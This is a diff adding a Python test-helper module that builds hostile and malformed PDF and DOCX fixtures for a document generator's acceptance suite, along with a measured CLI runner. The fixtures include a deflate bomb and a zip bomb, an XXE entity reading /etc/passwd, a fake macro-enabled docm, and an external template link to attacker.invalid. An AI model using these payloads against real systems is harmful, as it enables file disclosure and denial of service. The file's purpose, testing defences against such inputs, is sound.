@@ -1,0 +1,166 @@
+"""Builders for hostile and broken files, and a way to run the CLI under measurement.
+
+Every file is made here from a real pack (or from scratch), so the acceptance
+suite needs no binary fixtures.
+"""
+
+from __future__ import annotations
+
+import io
+import os
+import subprocess
+import sys
+import time
+import zipfile
+import zlib
+from dataclasses import dataclass
+from pathlib import Path
+
+from pypdf import PdfReader, PdfWriter
+from pypdf.generic import NameObject, NumberObject
+
+ROOT = Path(__file__).resolve().parent.parent
+
+
+@dataclass
+class Run:
+    code: int
+    out: str
+    err: str
+    seconds: float
+    peak_mb: float  # the command's own peak RSS and its children's, whichever is larger
+
+
+def run_cli_measured(*args: str) -> Run:
+    """Run ``portfolio ARGS`` in a fresh process; time it, and take its peak RSS from wait4()."""
+    start = time.perf_counter()
+    process = subprocess.Popen([sys.executable, "-m", "generator", *args], cwd=ROOT,
+                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    out = process.stdout.read()
+    err = process.stderr.read()
+    _, status, usage = os.wait4(process.pid, 0)
+    process.returncode = os.waitstatus_to_exitcode(status)
+    process.stdout.close()
+    process.stderr.close()
+    return Run(process.returncode, out.decode(), err.decode(), time.perf_counter() - start, usage.ru_maxrss / 1024)
+
+
+def _rewrite(data: bytes, change) -> bytes:
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
+    change(writer)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def encrypted_pdf(pack: bytes) -> bytes:
+    return _rewrite(pack, lambda w: w.encrypt(user_password="secret", algorithm="AES-128"))
+
+
+def flattened_pdf(pack: bytes) -> bytes:
+    def change(w):
+        del w._root_object["/AcroForm"]
+        for page in w.pages:
+            page.pop("/Annots", None)
+    return _rewrite(pack, change)
+
+
+def decompression_bomb_pdf(pack: bytes, size: int = 200_000_000) -> bytes:
+    """The pack with its manifest stream replaced by a deflate bomb (``size`` bytes of zeros)."""
+    def change(w):
+        names = w._root_object["/Names"]["/EmbeddedFiles"]["/Names"]
+        stream = names[1].get_object()["/EF"]["/F"].get_object()
+        compressor = zlib.compressobj(9)
+        chunk = b"\0" * 1_000_000
+        parts = [compressor.compress(chunk) for _ in range(size // len(chunk))] + [compressor.flush()]
+        stream._data = b"".join(parts)
+        stream[NameObject("/Length")] = NumberObject(len(stream._data))
+    return _rewrite(pack, change)
+
+
+def cyclic_page_tree_pdf() -> bytes:
+    """A small PDF whose page tree contains itself, with a circular /Prev in its xref chain too."""
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
+        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
+        b"<< /FT /Tx /T (name) /V (x) /Kids [4 0 R] >>",
+    ]
+    out = io.BytesIO()
+    out.write(b"%PDF-1.7\n")
+    offsets = []
+    for number, body in enumerate(objects, 1):
+        offsets.append(out.tell())
+        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
+    xref = out.tell()
+    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
+    for offset in offsets:
+        out.write(b"%010d 00000 n \n" % offset)
+    out.write(b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref, xref))
+    return out.getvalue()
+
+
+def big_file(path: Path, size: int = 200_000_000) -> Path:
+    """A sparse file of ``size`` bytes that starts like a PDF (no disk is used for the rest)."""
+    with path.open("wb") as handle:
+        handle.write(b"%PDF-1.7\n")
+        handle.truncate(size)
+    return path
+
+
+def _docx_with(pack: bytes, replace: dict[str, bytes], add: dict[str, bytes] | None = None) -> bytes:
+    source = zipfile.ZipFile(io.BytesIO(pack))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
+        for name, data in (add or {}).items():
+            target.writestr(name, data)
+    return out.getvalue()
+
+
+def docx_zip_bomb(pack: bytes, size: int = 150_000_000) -> bytes:
+    """The pack with an extra part that unpacks to ``size`` bytes of zeros (compressed ~1000:1)."""
+    source = zipfile.ZipFile(io.BytesIO(pack))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            target.writestr(info.filename, source.read(info))
+        with target.open("word/media/padding.bin", "w", force_zip64=True) as handle:
+            chunk = b"\0" * 1_000_000
+            for _ in range(size // len(chunk)):
+                handle.write(chunk)
+    return out.getvalue()
+
+
+def docx_xxe(pack: bytes) -> bytes:
+    document = zipfile.ZipFile(io.BytesIO(pack)).read("word/document.xml")
+    head, _, body = document.partition(b"?>")
+    evil = (head + b'?>\n<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
+            b'<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>' + body)
+    return _docx_with(pack, {"word/document.xml": evil.replace(b"Enter text", b"&xxe;", 1)})
+
+
+def docm(pack: bytes) -> bytes:
+    types = zipfile.ZipFile(io.BytesIO(pack)).read("[Content_Types].xml")
+    types = types.replace(b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+                          b"application/vnd.ms-word.document.macroEnabled.main+xml")
+    return _docx_with(pack, {"[Content_Types].xml": types}, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0fake macro"})
+
+
+def docx_external_relationship(pack: bytes) -> bytes:
+    rels = zipfile.ZipFile(io.BytesIO(pack)).read("word/_rels/document.xml.rels")
+    rels = rels.replace(b"</Relationships>", b'<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/'
+                        b'officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" '
+                        b'TargetMode="External"/></Relationships>')
+    return _docx_with(pack, {"word/_rels/document.xml.rels": rels})
+
+
+def valid_nhs_number(prefix: str = "999000") -> str:
+    """A synthetic NHS number in the 999 test range that passes the Modulus 11 check."""
+    from generator.identifiers import nhs_number_valid
+    for n in range(10_000):
+        candidate = f"{prefix}{n:04d}"
+        if nhs_number_valid(candidate):
+            return candidate
+    raise AssertionError("no valid number found")
